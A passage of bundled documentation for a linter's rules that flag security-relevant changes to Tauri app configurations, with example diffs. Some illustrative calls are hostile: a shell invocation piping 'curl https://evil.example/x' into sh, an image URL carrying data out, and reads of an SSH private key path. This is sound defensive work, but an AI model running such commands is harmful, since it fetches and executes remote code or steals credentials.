- \`'unsafe-eval'\` in \`default-src\` while Tauri makes a \`script-src\`.
- \`'unsafe-eval'\` in \`script-src-elem\`, where no engine looks for it.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags \`unsafe-eval\`

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
     ],
     "security": {
-      "csp": "default-src 'self'; script-src 'self'"
+      "csp": "default-src 'self'; script-src 'self' 'unsafe-eval'"
     }
   }
\`\`\`

Pages of the app may newly turn strings into code with \`eval\`:

\`\`\`
eval("1")
\`\`\`

### It says nothing when only the default has it

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
     ],
     "security": {
-      "csp": "default-src 'self'"
+      "csp": "default-src 'self' 'unsafe-eval'"
     }
   }
\`\`\`

<!-- end examples -->

## References

- [MDN: \`script-src\`](https://developer.mozilla.org/en-US/docs/Web/HTTP/Reference/Headers/Content-Security-Policy/script-src)
- [Tauri 2: Content Security Policy](https://v2.tauri.app/security/csp/)
- [W3C: Content Security Policy Level 3](https://www.w3.org/TR/CSP3/)
`,"csp/frame-allowed":`# Other pages may be shown in frames: \`csp/frame-allowed\`

Severity: medium for any host; low for a named host and for \`data:\` and \`blob:\`; info for the app itself.

Since: 0.1.0

A page may show another page in an \`<iframe>\` or an \`<object>\`.

## Why it matters

A framed page can imitate the app and navigate it away. In older versions of Tauri a frame could also call commands (CVE-2024-35222).

## What to do

Name the host, give the frame a \`sandbox\` attribute, and open other sites in the system browser instead.

## When it says nothing

- A list that is spelled out after it was inherited from \`default-src\`.
- A host in \`child-src\` while \`frame-src\` is there: frames never ask it.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags a framed host

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
     ],
     "security": {
-      "csp": "default-src 'self'; frame-src 'self'"
+      "csp": "default-src 'self'; frame-src 'self' https://player.example.com"
     }
   }
\`\`\`

Pages of the app may newly show pages in frames from \`player.example.com\`:

\`\`\`
<iframe src="https://player.example.com/x.html"></iframe>
\`\`\`

### It says nothing when the list is spelled out

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
     ],
     "security": {
-      "csp": "default-src 'self' https://player.example.com"
+      "csp": "default-src 'self' https://player.example.com; frame-src https://player.example.com"
     }
   }
\`\`\`

<!-- end examples -->

## References

- [MDN: \`frame-src\`](https://developer.mozilla.org/en-US/docs/Web/HTTP/Reference/Headers/Content-Security-Policy/frame-src)
- [Tauri 2: Content Security Policy](https://v2.tauri.app/security/csp/)
- [CVE-2024-35222: frames reached the API of Tauri](https://github.com/advisories/GHSA-57fm-592m-34r7)
`,"csp/inline-script-allowed":`# Scripts written into a page may run: \`csp/inline-script-allowed\`

Severity: high; low where only texts with a given hash may run.

Since: 0.1.0

Text in a page may run as a script: \`<script>\` elements, \`on\u2026\` attributes, \`javascript:\` URLs.

## Why it matters

This is what most policies are there to stop: a name, a message or a file name that reaches a page unescaped. Tauri's own hashes make \`'unsafe-inline'\` void in \
\`script-src\`, so it comes alive when \`dangerousDisableAssetCspModification\` names \`script-src\`, or when it stands in \`script-src-elem\` or \`script-src-attr\`, whi\
ch Tauri never touches.

## What to do

Move the script into a file. If a library injects one, allow its hash. A nonce in the configuration is no help: it is the same for everyone, and Tauri adds fres\
h ones itself.

## When it says nothing

- \`'unsafe-inline'\` in \`script-src\` while Tauri adds its hashes: it is void.
- A script of the app that moves to another file.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags \`unsafe-inline\` for elements

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
     ],
     "security": {
-      "csp": "default-src 'self'"
+      "csp": "default-src 'self'; script-src-elem 'self' 'unsafe-inline'"
     }
   }
\`\`\`

Pages of the app may newly run scripts written into them:

\`\`\`
<script>alert(1)</script>
\`\`\`

### It says nothing when Tauri voids \`unsafe-inline\`

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
     ],
     "security": {
-      "csp": "default-src 'self'; script-src 'self'"
+      "csp": "default-src 'self'; script-src 'self' 'unsafe-inline'"
     }
   }
\`\`\`

<!-- end examples -->

## References

- [MDN: \`script-src\`](https://developer.mozilla.org/en-US/docs/Web/HTTP/Reference/Headers/Content-Security-Policy/script-src)
- [Tauri 2: Content Security Policy](https://v2.tauri.app/security/csp/)
- [W3C: Content Security Policy Level 3](https://www.w3.org/TR/CSP3/)
`,"csp/media-allowed":`# Images, fonts or media may be loaded from somewhere new: \`csp/media-allowed\`

Severity: low for any host; info for a named host, for \`data:\` and \`blob:\`, and for protocols of the app.

Since: 0.1.0

A page may load an image, a font, sound, video or a manifest from where it could not.

## Why it matters

Nothing of this runs, but an address can carry data out: \`<img src="https://evil.example/?\u2026">\`.

## What to do

Name the hosts that the app needs.

## When it says nothing

- \`https:\` added beside \`http:\`, which already stands for it.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags images from any host

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
     ],
     "security": {
-      "csp": "default-src 'self'; img-src 'self' asset: http://asset.localhost"
+      "csp": "default-src 'self'; img-src 'self' asset: http://asset.localhost https:"
     }
   }
\`\`\`

Pages of the app may newly load images from any host:

\`\`\`
<img src="https://evil.example/x.png">
\`\`\`

### It says nothing when \`http:\` stood for \`https:\`

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
     ],
     "security": {
-      "csp": "default-src 'self'; img-src 'self' http:"
+      "csp": "default-src 'self'; img-src 'self' http: https:"
     }
   }
\`\`\`

<!-- end examples -->

## References

- [MDN: \`img-src\`](https://developer.mozilla.org/en-US/docs/Web/HTTP/Reference/Headers/Content-Security-Policy/img-src)
- [MDN: \`font-src\`](https://developer.mozilla.org/en-US/docs/Web/HTTP/Reference/Headers/Content-Security-Policy/font-src)
- [Tauri 2: Content Security Policy](https://v2.tauri.app/security/csp/)
`,"csp/policy-removed":`# The app has no Content Security Policy any more: \`csp/policy-removed\`

Severity: critical where the old policy held scripts back; medium where it did not, and for a new app that begins without one.

Since: 0.1.0

The pages of the app get no policy: \`csp\` is null or gone, it holds a character outside ASCII (the webview then drops the header), or the pages come from a serv\
er.

## Why it matters

The policy is what stands between a string that slips into a page and the commands that the page may call. With \`csp\` null Tauri sends no header at all, and it \
adds no hashes and nonces either. An empty string is not null: Tauri then still sends \`script-src 'self'\`.

## What to do

Ask what the policy was in the way of. One more source is nearly always enough; the console of the webview names it. Typographic quotes come from copying a poli\
cy out of a web page: write straight ones.

## When it says nothing

- A policy that moves into another file, or from a string into a map.
- \`"csp": ""\` and \`"csp": {}\`, which are policies.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags a policy that becomes null

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
     ],
     "security": {
-      "csp": "default-src 'self'; connect-src ipc: http://ipc.localhost"
+      "csp": null
     }
   }
\`\`\`

Pages of the app have no Content Security Policy any more:

\`\`\`
<script>alert(1)</script>
\`\`\`

### It says nothing when the policy becomes a map

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
     ],
     "security": {
-      "csp": "default-src 'self'; img-src 'self' https://img.harbour.example"
+      "csp": {
+        "default-src": [
+          "'self'"
+        ],
+        "img-src": [
+          "'self'",
+          "https://img.harbour.example"
+        ]
+      }
     }
   }
\`\`\`

<!-- end examples -->

## References

- [Tauri 2: Content Security Policy](https://v2.tauri.app/security/csp/)
- [MDN: Content-Security-Policy](https://developer.mozilla.org/en-US/docs/Web/HTTP/Reference/Headers/Content-Security-Policy)
- [W3C: Content Security Policy Level 3](https://www.w3.org/TR/CSP3/)
`,"csp/report-collector-added":`# Blocked requests are reported to somewhere new: \`csp/report-collector-added\`

Severity: info.

Since: 0.1.0

\`report-uri\` or \`report-to\` names a collector that it did not name.

## Why it matters

Reports hold addresses: of the page, and of what it tried to load. They tell a collector what people do in the app.

## What to do

Check that you know who runs it.

## When it says nothing

- A collector that is removed.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags a new collector

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
     ],
     "security": {
-      "csp": "default-src 'self'"
+      "csp": "default-src 'self'; report-uri https://csp.collector.example/r"
     }
   }
\`\`\`

Pages of the app may newly report what was blocked to \`https://csp.collector.example/r\`:

\`\`\`
the URLs that were blocked are sent to https://csp.collector.example/r
\`\`\`

### It says nothing when a collector goes

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
     ],
     "security": {
-      "csp": "default-src 'self'; report-uri https://csp.collector.example/r"
+      "csp": "default-src 'self'"
     }
   }
\`\`\`

<!-- end examples -->

## References

- [MDN: \`report-to\`](https://developer.mozilla.org/en-US/docs/Web/HTTP/Reference/Headers/Content-Security-Policy/report-to)
- [MDN: \`report-uri\`](https://developer.mozilla.org/en-US/docs/Web/HTTP/Reference/Headers/Content-Security-Policy/report-uri)
- [Tauri 2: Content Security Policy](https://v2.tauri.app/security/csp/)
`,"csp/script-allowed":`# Scripts may be loaded from somewhere new: \`csp/script-allowed\`

Severity: high for any host, for hosts where anyone can publish, and for \`data:\`; medium for one named host and for \`blob:\`; low where a hash must fit; info for\
 the app itself.

Since: 0.1.0

A page may load a script from where it could not: a new host, a wider pattern, a scheme.

## Why it matters

A script from elsewhere runs with everything that the window may call, and it can change any day without a pull request. A host that serves what anyone uploads,\
 such as a public CDN, is as good as any host.

## What to do

Ship the script with the app. Where that is impossible, allow one file by its path and check it with \`integrity\`. Note that a path counts for nothing once a req\
uest was redirected.

## When it says nothing

- A host in \`default-src\` alone: Tauri makes a \`script-src\` of its own, which that host is not in.
- The same sources in another order or spelling.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags a new host

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
     ],
     "security": {
-      "csp": "default-src 'self'; script-src 'self'"
+      "csp": "default-src 'self'; script-src 'self' https://widgets.partner.example"
     }
   }
\`\`\`

Pages of the app may newly load scripts from \`widgets.partner.example\`:

\`\`\`
<script src="https://widgets.partner.example/x.js"></script>
\`\`\`

### It says nothing when a host joins only the default

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
     ],
     "security": {
-      "csp": "default-src 'self' https://a.harbour.example"
+      "csp": "default-src https://a.harbour.example 'self'"
     }
   }
\`\`\`

<!-- end examples -->

## References

- [MDN: \`script-src\`](https://developer.mozilla.org/en-US/docs/Web/HTTP/Reference/Headers/Content-Security-Policy/script-src)
- [Tauri 2: Content Security Policy](https://v2.tauri.app/security/csp/)
- [CVE-2026-95626: \`data:\` and \`blob:\` void the nonce](https://www.cve.org/CVERecord?id=CVE-2026-95626)
- [W3C: Subresource Integrity](https://www.w3.org/TR/SRI/)
`,"csp/style-allowed":`# Styles may come from somewhere new: \`csp/style-allowed\`

Severity: medium for any host; low for a named host and for inline styles; info for the app itself.

Since: 0.1.0

A page may load a style sheet from where it could not, or apply styles written into it.

## Why it matters

Styles can cover a button with another, and with selectors and background images they can tell a server what stands in a page. \`'unsafe-inline'\` in \`style-src\` \
is void on pages with a \`<style>\` element, to which Tauri adds a nonce; whether a built page has one is taken from the \`index.html\` in the repository.

## What to do

Ship the style sheet. For a library that injects styles, allow its hash.

## When it says nothing

- \`'unsafe-inline'\` beside a nonce or a hash of your own.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags a host of fonts

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
     ],
     "security": {
-      "csp": "default-src 'self'; style-src 'self'"
+      "csp": "default-src 'self'; style-src 'self' https://fonts.example.com"
     }
   }
\`\`\`

Pages of the app may newly load style sheets from \`fonts.example.com\`:

\`\`\`
<link rel="stylesheet" href="https://fonts.example.com/x.css">
\`\`\`

### It says nothing when Tauri's nonce voids it

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
     ],
     "security": {
-      "csp": "default-src 'self'; style-src 'self'"
+      "csp": "default-src 'self'; style-src 'self' 'unsafe-inline'"
     }
   }
\`\`\`

<!-- end examples -->

## References

- [MDN: \`style-src\`](https://developer.mozilla.org/en-US/docs/Web/HTTP/Reference/Headers/Content-Security-Policy/style-src)
- [Tauri 2: Content Security Policy](https://v2.tauri.app/security/csp/)
- [W3C: Content Security Policy Level 3](https://www.w3.org/TR/CSP3/)
`,"csp/worker-allowed":`# Workers may be started from somewhere new: \`csp/worker-allowed\`

Severity: medium where anything will do; low for \`blob:\` and \`data:\`; info for the app's own files.

Since: 0.1.0

A page may start a worker from where it could not.

## Why it matters

A worker runs a script beside the page. From a \`blob:\` or \`data:\` URL that script can be any string, so it is a way round a \`script-src\` without \`'unsafe-eval'\`\
.

## What to do

Ship the worker as a file. Bundlers make \`blob:\` workers by default; most have an option for a file.

## When it says nothing

- A worker list that is spelled out after it was inherited from \`script-src\`.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags workers from blobs

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
     ],
     "security": {
-      "csp": "default-src 'self'; worker-src 'self'"
+      "csp": "default-src 'self'; worker-src 'self' blob:"
     }
   }
\`\`\`

Pages of the app may newly start workers from \`blob:\` URLs:

\`\`\`
new Worker(URL.createObjectURL(new Blob([code])))
\`\`\`

### It says nothing when the list is spelled out

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
     ],
     "security": {
-      "csp": "default-src 'self'; script-src 'self'"
+      "csp": "default-src 'self'; script-src 'self'; worker-src 'self'"
     }
   }
\`\`\`

<!-- end examples -->

## References

- [MDN: \`worker-src\`](https://developer.mozilla.org/en-US/docs/Web/HTTP/Reference/Headers/Content-Security-Policy/worker-src)
- [Tauri 2: Content Security Policy](https://v2.tauri.app/security/csp/)
- [W3C: Content Security Policy Level 3](https://www.w3.org/TR/CSP3/)
`,"ipc/app-commands-open":`# Every command of the app is open: \`ipc/app-commands-open\`

Severity: high; low for an app that is new.

Since: 0.1.0

The app had permissions of its own, so that its commands needed a capability, and now it declares none: the last file under \`permissions/\` went, or \`build.rs\` n\
o longer lists the commands. Every page of the app can then call every command that the app registers. The same is reported where an update or downgrade of Taur\
i opens the commands to remote pages.

## Why it matters

Tauri checks the app's own commands only if the app declares permissions. A single permission file anywhere under \`permissions/\` closes all of them; without it \
they are all open to every local page in every window, whatever the capabilities say. Before Tauri 2.11.1 they were open to remote pages too.

## What to do

Declare the commands in \`build.rs\`, with \`AppManifest::new().commands(&["greet"])\`, or in files under \`permissions/\`, and grant each, without a prefix (\`allow-g\
reet\`), where it is needed. Use Tauri 2.11.1 or newer.

## When it says nothing

- The app never declared permissions: the commands were open before. A command that is added to such an app is not reported either.
- Another permission file is left, though it be for a command that no longer exists: it keeps all of them closed.
- The version of Tauri is not pinned on one side, so that nobody knows whether sites could call the commands before.
- One command is granted in a capability. That is [\`ipc/command-granted\`](../command-granted/README.md).

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags the last permission file that went

\`src-tauri/capabilities/main.json\`:

\`\`\`diff
   "identifier": "main",
   "windows": ["main"],
-  "permissions": ["core:default", "allow-greet"]
+  "permissions": ["core:default"]
 }
\`\`\`

\`src-tauri/permissions/greet.toml\`:

\`\`\`diff
-[[permission]]
-identifier = "allow-greet"
-commands.allow = ["greet"]
\`\`\`

The app's own pages in every window can newly call every command of the app:

\`\`\`
invoke("any_command_of_the_app")
\`\`\`

### It says nothing when permissions move to the build script

\`src-tauri/build.rs\`:

\`\`\`diff
+fn main() {
+    tauri_build::try_build(
+        tauri_build::Attributes::new()
+            .app_manifest(tauri_build::AppManifest::new().commands(&["greet"])),
+    )
+    .expect("failed to run tauri-build");
+}
\`\`\`

\`src-tauri/permissions/greet.toml\`:

\`\`\`diff
-[[permission]]
-identifier = "allow-greet"
-commands.allow = ["greet"]
\`\`\`

<!-- end examples -->

## References

- [Tauri 2: capabilities](https://v2.tauri.app/security/capabilities/)
- [Tauri 2: calling Rust from the frontend](https://v2.tauri.app/develop/calling-rust/)
- [Tauri 2: runtime authority](https://v2.tauri.app/security/runtime-authority/)
`,"ipc/command-granted":`# A command is newly callable: \`ipc/command-granted\`

Severity: critical where a program can be run with any arguments; high for other programs, for files such as keys and cookies, and for transfers that no scope l\
imits; medium for other files, requests to any host or local port, the clipboard, stored data and new windows; low for the rest, and while the scope lets nothin\
g through; one step more for remote pages; at least medium where what the permission grants had to be guessed.

Since: 0.1.0

A capability names a permission that it did not have, and with it pages of the app can call a command that they could not call before. It doesn't matter which w\
ay the permission came: in a capability file, inline in \`tauri.conf.json\`, in an overlay for one platform, through a set, or because a whole file became active.\


## Why it matters

Each command is a door between the web page and the machine. Whoever gets a script into the page, by a stored message, a compromised package or a hijacked site,\
 can call everything that the page can call, with arguments of their own choice.

## What to do

Look at the example call: would you let a stranger make it? Grant the single permission that the page needs in place of a set, name its paths, URLs or programs \
in the scope, and list only the windows that use it.

## When it says nothing

- The call was possible before, by any capability: \`core:window:allow-title\` beside \`core:default\` adds nothing.
- A permission is moved, reordered, written as an object, or replaced by the members of its set.
- The capability is not in force: the list in \`app.security.capabilities\` leaves it out, or it holds for no window and no webview.
- Some capability denies the command. A denial holds for every window.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags a program with any arguments

\`src-tauri/capabilities/main.json\`:

\`\`\`diff
   "identifier": "main",
   "windows": ["main"],
-  "permissions": ["core:default", "shell:allow-open"]
+  "permissions": [
+    "core:default",
+    "shell:allow-open",
+    {
+      "identifier": "shell:allow-execute",
+      "allow": [{ "name": "sh", "cmd": "sh", "args": true }]
+    }
+  ]
 }
\`\`\`

Window \`main\` can newly run programs (\`plugin:shell|execute\`):

\`\`\`
invoke("plugin:shell|execute", {"program":"sh","args":["-c","curl https://evil.example/x | sh"]})
\`\`\`

### It says nothing about a permission that a set had

\`src-tauri/capabilities/main.json\`:

\`\`\`diff
   "identifier": "main",
   "windows": ["main"],
-  "permissions": ["core:default"]
+  "permissions": ["core:default", "core:window:allow-title"]
 }
\`\`\`

<!-- end examples -->

## References

- [Tauri 2: capabilities](https://v2.tauri.app/security/capabilities/)
- [Tauri 2: permissions](https://v2.tauri.app/security/permissions/)
- [Tauri 2: runtime authority](https://v2.tauri.app/security/runtime-authority/)
`,"ipc/deny-removed":`# A denial is gone: \`ipc/deny-removed\`

Severity: critical where a program can be run with any arguments; high for other programs, for files such as keys and cookies, and for transfers that no scope l\
imits; medium for other files, requests to any host or local port, the clipboard, stored data and new windows; low for the rest, and while the scope lets nothin\
g through; one step more for remote pages.

Since: 0.1.0

A permission that denied a command, or a \`deny\` entry of a scope, is no longer in force, and something else still allows what it held back.

## Why it matters

A denied command (\`fs:deny-remove\`) is denied in every window, even when the denial stands in a capability for a window that is never opened. So a capability th\
at seems to do nothing can be all that keeps \`shell:allow-execute\` in another file from working. Before Tauri 2.12 it is denied to every origin too; since then \
only to the origins that its own capability is for, so that the update alone can let a site call what was denied. A \`deny\` entry of a scope holds for the pages \
that get the scope. Either way the removal shows in a diff only as deleted lines.

## What to do

Put the denial back; or take out the permission that allows the call, so that no denial is needed.

## When it says nothing

- Nothing allows the call, so that the denial held nothing back.
- Another denial of the same command or the same path is still in force.
- The denial of a command moves to another file, capability or window: it holds there all the same.
- It held for no page at all, in a capability with \`"local": false\` and no remote URL.
- A \`deny\` entry of a \`shell\` scope goes: the plugin never looked at it.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags a denied path that is taken out

\`src-tauri/capabilities/main.json\`:

\`\`\`diff
     {
       "identifier": "fs:scope",
-      "allow": ["$HOME/**"],
-      "deny": ["$HOME/Keys/**"]
+      "allow": ["$HOME/**"]
     }
   ]
\`\`\`

Window \`main\` can newly call \`plugin:fs|read_text_file\`, for example with \`/home/user/Keys/folder/notes.txt\`: \`fs:scope\` of the capability \`main\` no longer deni\
es it:

\`\`\`
invoke("plugin:fs|read_text_file", {"path":"/home/user/Keys/folder/notes.txt"})
\`\`\`

### It says nothing when a wider denial takes its place

\`src-tauri/capabilities/main.json\`:

\`\`\`diff
       "identifier": "fs:scope",
       "allow": ["$HOME/**"],
-      "deny": ["$HOME/Keys/**"]
+      "deny": ["$HOME/**"]
     }
   ]
\`\`\`

<!-- end examples -->

## References

- [Tauri 2: permissions](https://v2.tauri.app/security/permissions/)
- [Tauri 2: command scopes](https://v2.tauri.app/security/scope/)
- [Tauri 2: runtime authority](https://v2.tauri.app/security/runtime-authority/)
`,"ipc/meaning-changed":`# The same permission came to mean more: \`ipc/meaning-changed\`

Severity: critical where a program can be run with any arguments; high for other programs, for files such as keys and cookies, and for transfers that no scope l\
imits; medium for other files, requests to any host or local port, the clipboard, stored data and new windows; low for the rest, and while the scope lets nothin\
g through; one step more for remote pages.

Since: 0.1.0

The capability names the same permission as before, and that permission now stands for more commands, or brings a wider scope: the plugin has another version in\
 \`Cargo.lock\`, or a permission or set in a file under \`permissions/\` was edited, the app's own or that of a plugin in the repository.

## Why it matters

A permission such as \`fs:allow-write-file\` or \`core:default\` is a name, and the plugin's release decides what it stands for. From fs 2.0.3 to 2.1.0 \`fs:allow-wr\
ite-file\` came to include \`open\` and \`write\`. Such an update changes what pages may do without touching one line of a capability.

## What to do

If the app needs the new commands, nothing. If not, name single permissions in place of a set, deny the new command, or keep the version.

## When it says nothing

- The update leaves the permission as it was, which is the rule: most releases change none.
- A scope entry is written into a permission file. It has a line of its own, and is [\`ipc/scope-widened\`](../scope-widened/README.md).
- The new command was callable before by some other permission.
- The permissions of the version are not known. Those of the nearest version known are used, and a gap says so.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags an update that makes a permission mean more

\`src-tauri/Cargo.lock\`:

\`\`\`diff
 [[package]]
 name = "tauri-plugin-fs"
-version = "2.0.3"
+version = "2.1.0"
 source = "registry+https://github.com/rust-lang/crates.io-index"
-checksum = "d4b659bec8b2be7fa6a0579de2fd8886c83208ac11a8fa2fd1786a07345bebd6"
+checksum = "82b37e23467d90bbfc85c5d12e4bd36895b70f931bcdc48e61312f5423e9f5ab"
\`\`\`

\`fs:allow-write-file\` came to mean more: window \`main\` can newly use \`plugin:fs|open\` and \`plugin:fs|write\`, for example with \`/home/user/.local/share/com.examp\
le.notes/folder/notes.txt\`:

\`\`\`
invoke("plugin:fs|open", {"path":"/home/user/.local/share/com.example.notes/folder/notes.txt"})
\`\`\`

### It says nothing when an update takes away

\`src-tauri/Cargo.lock\`:

\`\`\`diff
 [[package]]
 name = "tauri-plugin-dialog"
-version = "2.6.0"
+version = "2.7.0"
 source = "registry+https://github.com/rust-lang/crates.io-index"
-checksum = "7eb9f699f202d2add14444591b83b6fabecf333740cf8d595d53c85a3966a46d"
+checksum = "78e241bbc9a17a0494b3cd8d24a59dd0674d6c13f057322b5c06d524efaef39e"
\`\`\`

<!-- end examples -->

## References

- [Tauri 2: permissions](https://v2.tauri.app/security/permissions/)
- [Tauri 2: permissions of plugins](https://v2.tauri.app/learn/security/using-plugin-permissions/)
- [Tauri 2: writing permissions for a plugin](https://v2.tauri.app/learn/security/writing-plugin-permissions/)
`,"ipc/platform-added":`# A permission holds on more platforms: \`ipc/platform-added\`

Severity: critical where a program can be run with any arguments; high for other programs, for files such as keys and cookies, and for transfers that no scope l\
imits; medium for other files, requests to any host or local port, the clipboard, stored data and new windows; low for the rest, and while the scope lets nothin\
g through; one step more for remote pages.

Since: 0.1.0

A capability, or a single permission in it, was part of the app on some platforms and is now part of it on others too: a name was added to \`platforms\`, the list\
 went, or the configuration of one platform (\`tauri.windows.conf.json\`) came to enable it.

## Why it matters

What is harmless on one system may not be on another: \`$HOME/**\` leaves out names that begin with a dot on Linux and macOS and includes them on Windows. And a c\
apability without \`platforms\` holds on all five, phones included.

## What to do

List under \`platforms\` those on which the app uses it. Mind the spelling, \`linux\`, \`macOS\`, \`windows\`, \`android\` and \`iOS\`.

## When it says nothing

- All five are listed in place of no list, or the other way round.
- Other capabilities allow the same there already.
- The capability is new as well. That is [\`ipc/command-granted\`](../command-granted/README.md), with its platforms.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags one more platform

\`src-tauri/capabilities/desktop.json\`:

\`\`\`diff
   "identifier": "desktop",
   "windows": ["main"],
-  "platforms": ["linux", "macOS"],
+  "platforms": ["linux", "macOS", "windows"],
   "permissions": [
     {
\`\`\`

Window \`main\` can newly run programs (\`plugin:shell|execute\`) on Windows:

\`\`\`
invoke("plugin:shell|execute", {"program":"sh","args":["-c","curl https://evil.example/x | sh"]})
\`\`\`

### It says nothing when all five are listed

\`src-tauri/capabilities/desktop.json\`:

\`\`\`diff
   "identifier": "desktop",
   "windows": ["main"],
+  "platforms": ["linux", "macOS", "windows", "android", "iOS"],
   "permissions": [
     {
\`\`\`

<!-- end examples -->

## References

- [Tauri 2: capabilities for windows and platforms](https://v2.tauri.app/learn/security/capabilities-for-windows-and-platforms/)
- [Tauri 2: fields of a capability](https://v2.tauri.app/reference/acl/capability/)
`,"ipc/remote-origin-granted":`# A remote page may call the app: \`ipc/remote-origin-granted\`

Severity: critical for programs, for files such as keys and cookies, and for transfers that no scope limits; high for other files, requests to any host or local\
 port, the clipboard, stored data and new windows; medium for requests to named hosts and for the rest; low while the scope lets nothing through.

Since: 0.1.0

A capability that the app had came to name a remote URL, or a wider pattern, in \`remote.urls\`: pages of that site, shown in the windows of the capability, can c\
all what it grants.

## Why it matters

The content of a remote page is decided by whoever runs the site, its CDN and its ad networks at the moment it is loaded, not by the app's release. URL patterns\
 also reach further than they read: \`https://*example.com\` includes \`https://evilexample.com\`, \`https://example.*\` includes \`https://example.evil.com\`, \`*\` cros\
ses dots, and a path in the pattern is no boundary, since the app is mostly told the origin alone.

## What to do

Name the one origin with its scheme and host, in a capability of its own with only the commands that this site calls. Better still, show the site in the system'\
s browser.

## When it says nothing

- The new pattern matches the same URLs: \`https://a.com\`, \`https://a.com/\` and \`https://a.com/*\`.
- The site had the same calls through another capability.
- A whole capability for the site is new. That is [\`ipc/command-granted\`](../command-granted/README.md), and its severity takes the remote page into account.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags another site

\`src-tauri/capabilities/site.json\`:

\`\`\`diff
   "local": false,
   "remote": {
-    "urls": ["https://app.example.com"]
+    "urls": ["https://app.example.com", "https://example.cdn.test"]
   },
   "permissions": [
\`\`\`

Pages of \`https://example.cdn.test\` in window \`site\` can newly send requests past the browser's rules (\`plugin:http|fetch\`) and call 7 more commands:

\`\`\`
invoke("plugin:http|fetch", {"clientConfig":{"method":"GET","url":"https://api.example.com/"}})
\`\`\`

### It says nothing about another spelling of the site

\`src-tauri/capabilities/site.json\`:

\`\`\`diff
   "local": false,
   "remote": {
-    "urls": ["https://app.example.com"]
+    "urls": ["https://app.example.com:443/*", "https://app.example.com/"]
   },
   "permissions": [
\`\`\`

<!-- end examples -->

## References

- [Tauri 2: capabilities](https://v2.tauri.app/security/capabilities/)
- [Tauri 2: fields of a capability](https://v2.tauri.app/reference/acl/capability/)
- [CVE-2023-31134: a website in a window reached the API of Tauri](https://github.com/advisories/GHSA-4wm2-cwcf-wwvp)
- [CVE-2026-42184: a website was taken for the app itself](https://github.com/advisories/GHSA-7gmj-67g7-phm9)
`,"ipc/scope-widened":'# A scope lets more through: `ipc/scope-widened`\n\nSeverity: critical where a program can be run with any arguments; high for other progra\
ms, and for files such as keys and cookies; medium for other files, and for any host, local port or link; low for named hosts; one step more for remote pages.\n\n\
Since: 0.1.0\n\nA command could be called before, and its scope (paths of `fs`, URLs of `http`, programs of `shell`, links and paths of `opener`) now accepts some\
thing that it refused. Toril doesn\'t compare the text of the entries: it decides whether there is any path, URL or command line that only the new scope accepts,\
 and shows one.\n\n## Why it matters\n\nThe scope is all that stands between "reads its own notes" and "reads `~/.ssh`". Its rules surprise people. `fs:scope` and t\
he sets `fs:allow-home-read` and their kin grow the scope of every window that may use any `fs` command, not of the window that was granted them. `$HOME/**` lea\
ves out names that begin with a dot, so `$HOME/.ssh/*` beside it is new. A validator `a|b` accepts everything that begins with `a` or ends with `b`. The URL pat\
tern `https://*example.com` includes `https://evilexample.com`, and the link `https://*.example.com/*` of the opener includes `https://evil.example/?.example.co\
m/`.\n\n## What to do\n\nNarrow the entry at the line to the folder, host or arguments that the app needs. To keep a path to one window, write it in the object form\
 of a permission with commands, such as `fs:allow-read-file`, and not in `fs:scope`.\n\n## When it says nothing\n\n- The new entry is covered by an old one: `$DOCUM\
ENT/reports/*` beside `$DOCUMENT/**`, `https://a.com/*` for `https://a.com`.\n- The entry can match nothing: `$APP/**` is a folder of that name in Tauri 2.\n- A d\
enial is added. (A denial that goes is [`ipc/deny-removed`](../deny-removed/README.md).)\n- The bundle\'s identifier changes: the same `$APPDATA` is then another \
folder.\n- The entry holds a pattern that can\'t be compared. That is a gap, not a finding.\n\n## Examples\n\n<!-- begin examples: made from cases.md by `npm run gene\
rate` -->\n### It flags a folder that begins with a dot\n\n`src-tauri/capabilities/main.json`:\n\n```diff\n     {\n       "identifier": "fs:scope",\n-      "allow": ["$\
HOME/**"]\n+      "allow": ["$HOME/**", "$HOME/.ssh/*"]\n     }\n   ]\n```\n\nWindow `main` can newly read files at `$HOME/.ssh/*` (`plugin:fs|read_text_file`) on Lin\
ux, macOS, Android and iOS:\n\n```\ninvoke("plugin:fs|read_text_file", {"path":"/home/user/.ssh/id_ed25519"})\n```\n\n### It says nothing about a folder inside a cove\
red one\n\n`src-tauri/capabilities/main.json`:\n\n```diff\n     {\n       "identifier": "fs:scope",\n-      "allow": ["$DOCUMENT/**"]\n+      "allow": ["$DOCUMENT/**", \
"$DOCUMENT/reports/*"]\n     }\n   ]\n```\n\n<!-- end examples -->\n\n## References\n\n- [Tauri 2: command scopes](https://v2.tauri.app/security/scope/)\n- [CVE-2022-4617\
